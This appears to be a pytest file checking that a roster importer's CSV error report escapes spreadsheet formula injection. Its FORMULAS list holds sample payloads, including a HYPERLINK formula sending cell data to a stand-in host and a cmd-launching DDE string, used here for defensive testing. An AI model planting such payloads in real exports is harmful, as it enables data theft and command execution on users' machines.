"""The roster import's error report writes the uploaded values back; a value a spreadsheet
would run as a formula (= + - @, tab, carriage return first) is written as text."""

import csv
import io

import pytest
from django.utils import translation

from netra.people.actions import import_roster_file
from netra.people.importer import errors_as_csv

from .roster_files import HEADER, write

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def report(tmp_path, region):
    rows = io.StringIO()
    writer = csv.writer(rows)
    for formula in FORMULAS:
        # Each value lands in a column that refuses it, so it comes back in the report.
        writer.writerow(
            [
                "198501012010011001",
                "Nama",
                formula,
                "Staf",
                "Pelaksana",
                "Dinas Pendidikan",
                formula,
                formula,
                formula,
            ]
        )
    # Header names come back too (in the column cell), and match with their signs ignored.
    header = HEADER.replace("Email", "=Email")
    result = import_roster_file(
        write(tmp_path, header + rows.getvalue()), region=region("35.09"), actor=None
    )
    with translation.override("id"):
        text = errors_as_csv(result.errors)
    return list(csv.reader(io.StringIO(text)))[1:]


def test_no_cell_of_the_report_starts_a_formula(report):
    values = {row[2] for row in report}
    # Cells are read without their surrounding spaces, tabs and line breaks.
    assert {"'" + formula.strip() for formula in FORMULAS} <= values
    assert "'=Email" in {row[1] for row in report}
    for row in report:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_the_guard_quotes_every_formula_start(value):
    from netra.lib.tables import formula_safe

    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Dinas Pendidikan", "198501012010011001", "", "a=b"])
def test_the_guard_leaves_plain_text_alone(value):
    from netra.lib.tables import formula_safe

    assert formula_safe(value) == value
